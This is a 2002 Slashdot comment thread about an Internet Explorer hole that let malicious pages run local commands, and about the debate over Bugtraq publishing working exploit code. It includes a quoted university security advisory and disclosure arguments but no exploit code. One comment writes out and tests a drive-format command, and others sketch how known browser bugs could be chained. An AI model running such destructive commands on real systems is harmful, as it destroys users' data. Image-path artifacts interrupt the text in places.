Want to read Slashdot from your mobile device? Point it at m.slashdot.org and keep reading!


Forgot your password?

Controversy Surrounds Huge IE Hole 907

Suchetha wrote in with a Wired News bit talking about security hole in IE that allows malicious web pages to reformat a hard drive. The Wired talks more about bugtrack's handling of the whole thing, and how it essentially posted working code for the exploit. Was it irresponsible or not?
This discussion has been archived. No new comments can be posted.

Controversy Surrounds Huge IE Hole

Comments Filter:
  • Active content... (Score:4, Informative)

    by wowbagger ( 69688 ) on Tuesday November 19, 2002 @01:10PM (#4707463) Homepage Journal
    I cannot help but notice that in almost all cases, the security problems in both IE and Mozilla have been in the realm of active content - Javascript, Flash, and ActiveX.

    Hence why I as a matter of course disable them.

    How about encouraging webmasters and web designers to avoid requiring them unless absolutely necessary?
  • Re:Irresponsible? (Score:4, Informative)

    by Proaxiom ( 544639 ) on Tuesday November 19, 2002 @01:11PM (#4707486)
    It's not as easy as that. The folks at Symantec have a good point: it was already available in a number of public forums, so disclosure wasn't an issue anymore.

    The criticism has a bit of a different skew:
    "Symantec's actions give the impressionthat they are encouraging people to create and release malicious code. Given that Symantec also sells security and antivirus software, I thinkthere is a terrible conflict of interest here."

    I have to admit I wonder about this myself from time to time.

  • by Anonymous Coward on Tuesday November 19, 2002 @01:11PM (#4707489)
    Posting as Anon since I don't need the Karma:


    Serious Internet Explorer Defect

    This is a developing issue and the information presented here is preliminary in nature and subject to frequent changes. Last significant update - 11/08/02-1830


    A simple way to exploit an unfixed defect in Internet Explorer has been discovered that allows malicious web sites, and possibly malicious email messages read with Outlook or Outlook Express, to take control of a computer. All you would need to do is click a web link and the owner of the web site could take almost any action they desired on your computer.

    Simple, working exploit software was recently published to a public mailing list.There is no patch to fix the problem. Anti-virus and personal firewall software will not prevent an exploit. It is hoped that Microsoft will provide a patch to fix this defect in the near future.

    It is impossible to predict how, when, or even if someone will take advantage of this but due to the ease with which badthings can be accomplished it was decided to post an announcement. Nothing at all may happen. Or someone could write a virus or put up a malicious web site to take advantage of the situation at any time. The last time a defect exploit with similar characteristics was published, it was quickly incorporated into many email viruses making it unnecessary to click an attachment to get infected.

    The following practices are recommended for users of Internet Explorer, Outlook, and Outlook Express untilmore information becomes available:

    1. Users of Outlook and Outlook Express should perform the following simple, unobtrusive procedure to disable scripts from executing in email messages:

    Click the Tools menu item and select Options

    Click the Security tab

    In Outlook Express, make sure the Virus Protection security zone is set to Restricted site zone as shown in the window below:

    In Outlook, make sure the Secure Content Zone is set to Restricted Sites as shown in the window below:

    These are the default settings for Outlook 2002 and Outlook Express 6. Users of earlier versions should change the setting to Restricted.

    2. Indiscriminate browsing of untrusted or questionable web sites should be avoided or scripting should be disabled as described in the additional security measures below. Note that hyper links sometimes appear in email or instant messages. If these messages are from malicious individuals, they could lead you to a malicious web site.

    3. Indiscriminate clicking of hyper links in unexpected or suspect email messages, instant messages, and peer sharing resources should be avoided or scripting should be disabled in Internet Explorer as described in the additional security measures below.


    There is only one technical defense against an exploit at the present time and that is to disable scripting in Internet Explorer, Outlook, and Outlook Express. Instructions for disabling scripting in the mail clients were included in the recommendations above and should have little or no effect on day to day use.

    Unfortunately, disabling scripting in Internet Explorer will adversely affect the operation of many web sites including E-campus and theWindows Update Site. There is, however, a way to specify trusted web sites that are are allowed to use scripting and disable it for all others. Users desiring to decrease risk may follow the instructions at the following web site under the section titled "Optional Internet Explorer Security Measures":

    http://www.jmu.edu/computing/info-security/engin ee ring/issues/ie.shtml#opt

    Risk associated with this exploit and most others can be somewhat reduced by using a non-Administrative Windows account when browsing the web, reading email, and other day to day computer use.

    The defect has been verified in Internet Explorer 5.5 and 6 SP1 running on Windows 98 and XP SP1 respectively. It is likely all varieties of 5.5 and 6 are vulnerable. A quick attempt on a Windows 95 computer running IE 5.0 was unsuccessful but not enough research was done to know why.

    A possible symptom of an exploit is a Window similar to the one below suddenly appearing on your screen after clicking a hyperlink or opening an email message. The exact appearance of the Window may vary depending upon the version of Internet Explorer and operating system. Note that this window will appear if you click Help and under that circumstance the window appearance is not an indication of an exploit. If you are affiliated with James Madison University and see this window unexpectedly appear after clicking a web hyperlink or reading an email message, please contact Gary Flynn at x82364 ASAP. People affiliated with James Madison University can find my home numberin the local directory and are encouraged to call me at home if such an event takes place after normal working hours.
  • by psocccer ( 105399 ) on Tuesday November 19, 2002 @01:16PM (#4707551) Homepage
    Basically this is the same as another exploit posted to the list earlier, but with a new command. And for that matter, jelmer has been posting a new IE local zone exploit like every week... Any of them could have been used to make something like this, it's just no one has tried to do a format. True the jelmer posts didn't include the "run a program with arguments" thing that was posted this week, but they did show how to read/write arbitrary files and execute them. So batch file somewhere and here comes a HD format.

    So the only reason we haven't seen this I think is because like always, virus creators want their program to spread, and the quickest way to stop the spread is to kill your host, so instead we get mass mailers, trojans, etc. It was going to happen eventually.
  • Re:Of course it was? (Score:5, Informative)

    by chef_raekwon ( 411401 ) on Tuesday November 19, 2002 @01:26PM (#4707666) Homepage
    try reading the article:

    "The vulnerability is well-known within the security community and the information posted on Bugtraq was information that had been copied or linked from other public forums,"

    Symantec insists that it was already publically available. This is simply a very well known/well respected company alerting both the public and the problem company of the possible problems. In reality, when a company as large as Symantec makes a stink like this, the offending company will be quick to resolve the issue.

    and isnt that what this is all about? Patching a security issue?
  • by CrystalFalcon ( 233559 ) on Tuesday November 19, 2002 @01:29PM (#4707697)Homepage
    And possibly -1 RTFE (Exploit).

    The advisory quoted only points out how it is possible to combine already well-known OTHER exploits into a way to run commands with parameters in the local context.

    Also, last time I checked, you could not format a hard drive just by typing "Format C:". You also have to type "yes" two or three times, quote the volume label back to the FORMAT program, and a couple of other safeguards. Saying that "Web sides format your harddrive" is sensationalism. Yes, they can run programs on your hard disk. (We've seen these kinds of sploits before. They're bad, yes, but not new.) But can it format your hard drive? Not so.

    It should also be noted that the exploit paper points out that the author has discovered another way to achieve the same effect, but that details will not be disclosed until the vendor (MS) has patched the problem.

    I don't think it is irresponsible (at least not of the magnitude suggested) to quote others' works and say that the vulnerabilities still exist.• by corvi42 ( 235814 ) on Tuesday November 19, 2002 @01:33PM (#4707744) Homepage Journal
    This is completely false.

    If a sysadmin is able to have access to specific code that causes such an exploit, he can develop filters on a web proxy to prevent his network from accessing such pages, and thereby prevent large scale disasters. Without access to the actual code in question, he would not be able to do this and would be at the mercy of M$ to provide a patch quickly.
  • by CrystalFalcon ( 233559 ) on Tuesday November 19, 2002 @01:43PM (#4707847) Homepage
    Actually, this is worth wasting a computer for. Let's find out. The man page for format does not mention any /y switch, so I'm sceptical, but let's try it nevertheless. There is no volume label on the drive, so I've removed that safeguard by hand as I try this:
    C:\>format c: /y
    Invalid parameter - /y
    What a disappointment. I had almost started to prepare for making a shiny new installation here. Ohwell, at least we know it doesn't work (like I claimed in the first place).
  • pleeaase... (Score:3, Informative)

    by Tom ( 822 ) on Tuesday November 19, 2002 @01:47PM (#4707903) HomepageJournal
    Not the whole full-disclosure discussion again. The topic has been discussed to death on pretty much every security-related mailing list, newsgroup, whatever for the past years.

    And frankly, if you surf with IE, which has known security holes that have been unpatched for well over a year, you simply deserve whatever you get.
  • by Charles Dodgeson ( 248492 ) <jeffrey@goldmark.org> on Tuesday November 19, 2002 @01:50PM (#4707940) Homepage Journal
    The most sensible thing I've ever read about this kind of question is crptogram article [counterpane.com] last year by Bruce Schneier.
  • by zyklone ( 8959 ) on Tuesday November 19, 2002 @01:56PM (#4708003) Homepage
    Ok, I expected that more people read bugtraq.. which is obviously not the case.

    Their version of november is not actually the real november. From Andreas Sandblads mail:
    "Microsoft was initially contacted 2002-10-04."

  • by Anonymous Coward on Tuesday November 19, 2002 @02:01PM (#4708057)>1. You're ready to have a hair-trigger response to the constant stream of security patches and updates you'll need to use. You probably have up-to-date virus protection software, and you probably work in an office with really paranoid, on-the-ball IT staff.

    1a. windows will update itself, should i care to let it do so.
    1b. so will my anti-virus software

    >2. For whatever reason, you don't care that your files could get mangled, erased, and resent: Maybe nothing's that critical, maybe you're just playing around, maybe you make constant backups.

    maybe nothing's been mangled, erased, or resent, since i bought my first copy of windows (xppro) a year ago. (ditto at work, but on 2kpro) plenty of hardware failures (fuck you very much ibm), but no filecorruption. have i EVER gotten files mangled by an OS? yes. by windows? yes. how about *nix? yes again. making constant backups isn't a demonstration of the unreliability of an OS to manage critical data, it's a demonstration of how critical the data being backed up is.

    > 3. You're completely irresponsible.
    obviously not completely, because i'm succumbing to this troll with merely an anon post.

    >If you had a nice apartment in the middle of New York, and you constantly left the front door unlocked, and then one day somebody walked in stole your stereo, I'd feel bad for you. But, you know, not too bad.
    ditto. speaking of open doors, you did remember to turn off all the crazy shit mandrake installs by default, and patch all your server proggies, and setup your ipchaining, and tunneling for the X server... etc. etc.

  • by neoThoth ( 125081 ) on Tuesday November 19, 2002 @02:06PM (#4708117) Homepage
    This is just a copy of Andreas Sandblads advisory, with a new command.


    note: prefix altered in "wwx". Needs to be reversed into "www" to make the URL work -

    The above url when viewed WILL FORMAT THE A:\ drive when viewed on a fully updated and patched windows system. If you go there make sure there is nothing in the A:\ that formating will harm; because this has been tested
    and works on Windows 2000 WinXP/home/corp/pro Win98/SE.

    This is a harmless POC to give you experts here a heads up; because Microsoft HAS been informed of the hole; but they seem to be sitting on there hands maybe much like the recent XP hole that they knew about before XP even shipped; but chose to wait until SP1 to correct.

    This is VERY DANGEROUS, and this little harmless POC could quite easy be made to bequite nasty; but when the author of the original hole who's hole I have sort of legoised and made to work a very little bit differently Microsoft had this to say to the original author:

    "Microsoft was initially contacted 2002-10-04. After several mail exchanges, their final response were that the technique used to run programs with parameters from the "Local computer zone" was no security vulnerability. A fix should instead be applied for all possibilities for content in the "Internet zone" to access the "Local computer zone".
  • Re:No!!! (Score:3, Informative)

    by Beautyon ( 214567 ) on Tuesday November 19, 2002 @02:07PM (#4708126) Homepage
    There was no need to add that payload to the exploit.

    The way that the example was written (its modular) made it trivial to add any function you want to it; pop up a window, run notepad.exe, delete a drive...all it takes is a simple substitution.

    I have to agree that if millions of people had thier installations deleted something would happen, at the minimum, everyone, everywhere would be scared shitless about surfing with IE....and that would be a very good thing.

    This is "terrorism" right?
  • Re:Active content... (Score:3, Informative)

    by RAMMS+EIN ( 578166 ) on Tuesday November 19, 2002 @02:09PM (#4708161) Homepage Journal``web only''
    You got it right there. Theproblem is that M$IE is at the core of M$ Windows. It's not just the web browser, it's also the file manager. This means that it both runs scripts provided on websites, and modifies the local hard drive. Does this sound like two things that can't be combined without huge security issues? It does to me.

    In addition, Micro$oft has decided that standard technologies like JavaScript and Java aren't good enuogh for them. They need to have JScript, VBScript, MicroSoft Virtual Machine (which they claim is Java compatible - it may have been, once, but it certainly isn't today), and ActiveX. All these arenew implementations, developped by one company, boud to make the mistakes that may already have been patched in more established efforts made by the rest of the world. Reinventing the wheel is not only redundant, but also dangerous.

    Moreover Micro$oft's feauture-geilheit has led them to make Internet software do things it has no business of doing. Email programs execute programs sent as attachments, ActiveX allows webpages to do things with DLLs on your hard drive. This is just bound to lead to holes. Keep It Simple, Stupid!

    In all fairness, I have to add that there are some pretty nasty things in non-MicroSoft technologies as well. Take, for example, Java. It suffers from the same it's-for-the-web-but-also-for-real-programs disease as M$IE, VBScript, and ActiveX. It is true that those features that access the local computer have been shielded off pretty well in Java, but there _could_ be holes.

    And even without these holes, Java applets can do a lot of harm. What if, for example, someone operating a popular website included some Java Applet that openened a TCP/IP link to somewhere it received instructions from, and then, on the master's command, launched a DDoS attack on some site? But then, this sort of thing is almost impossible to prevent - supposedly the owner of this popular website could just cause all visitors to be redirected to the site he wanted to attack. Slashdot linking comes to mind...

